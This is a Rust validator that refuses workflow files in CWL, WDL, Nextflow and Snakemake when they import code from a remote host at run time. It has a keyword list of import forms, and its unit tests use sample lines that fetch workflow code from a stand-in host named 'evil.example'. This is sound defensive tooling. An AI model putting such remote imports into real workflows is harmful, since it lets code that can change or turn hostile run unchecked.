//! Code that a workflow takes from elsewhere when it runs (`apis.md` E22): it may be another tomorrow, and is refused.

use crate::understand::NotUnderstood;

/// Words behind which CWL, WDL, Nextflow and Snakemake name further code.
const IMPORTS: [&str; 12] = [
    "$import",
    "$include",
    "$mixin",
    "run",
    "import",
    "include",
    "from",
    "snakefile",
    "wrapper",
    "meta_wrapper",
    "script",
    "container_engine_config",
];

/// Functions of Snakemake that name a file of a host's repository.
const HOSTS: [&str; 3] = ["github(", "gitlab(", "bitbucket("];

/// Refuses a line that imports from another host.
///
/// # Errors
/// [`NotUnderstood`].
pub(crate) fn refuse(part: &str, text: &str) -> Result<(), NotUnderstood> {
    let elsewhere = |line: &str| {
        let line = line.trim_start_matches([' ', '\t', '-', '{', ',', '"', '\'']);
        let end = line
            .find(|letter: char| !(letter.is_ascii_alphanumeric() || matches!(letter, '$' | '_')))
            .unwrap_or(line.len());
        let word = line.get(..end).unwrap_or_default();
        let rest = line.get(end..).unwrap_or_default();
        let remote = rest.contains("://") || HOSTS.iter().any(|host| rest.contains(host));
        remote && IMPORTS.contains(&word)
    };
    // flow style puts several on one line
    let within = |line: &str| {
        ["$import", "$include", "$mixin"]
            .iter()
            .any(|word| line.split_once(word).is_some_and(|(_, rest)| rest.contains("://")))
    };
    let nextflow = |line: &str| {
        line.trim_start().starts_with("include")
            && line.split_once(" from ").is_some_and(|(_, rest)| rest.contains("://"))
    };
    let snakemake = |line: &str| {
        let line = line.trim_start();
        (line.starts_with("wrapper:") || line.starts_with("meta_wrapper:")) && !line.contains("file:")
    };
    if text
        .lines()
        .any(|line| elsewhere(line) || within(line) || nextflow(line) || snakemake(line))
    {
        return Err(NotUnderstood::at(
            part,
            "run.import_remote",
            "it takes code from elsewhere when it runs, which may be another then; attach that code",
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn e22_code_from_elsewhere_is_refused_in_every_language() {
        for (name, text) in [
            ("CWL import", "steps:\n  - $import: https://evil.example/x.cwl\n"),
            ("CWL import, JSON", "{\"a\": {\"$import\": \"http://evil.example/x\"}}"),
            ("CWL step", "  count:\n    run: https://evil.example/x.cwl\n"),
            ("WDL", "version 1.0\nimport \"https://evil.example/x.wdl\" as x\n"),
            ("Nextflow", "include { count } from 'https://evil.example/x.nf'\n"),
            (
                "Snakemake module",
                "module m:\n    snakefile: github(\"o/r\", path=\"S\", tag=\"v1\")\n",
            ),
            (
                "Snakemake module by URL",
                "module m:\n    snakefile: \"https://evil.example/S\"\n",
            ),
            ("Snakemake wrapper", "rule a:\n    wrapper: \"v1.2/bio/x\"\n"),
        ] {
            assert_eq!(refuse("x", text).unwrap_err().code, "run.import_remote", "{name}");
        }
        for text in [
            "run: count.cwl\n",
            "$namespaces:\n  edam: https://edamontology.org/\n",
            "import \"local.wdl\" as l\n",
            "doc: see https://doc.example.org/\n",
        ] {
            assert_eq!(refuse("x", text), Ok(()), "{text}");
        }
    }
}
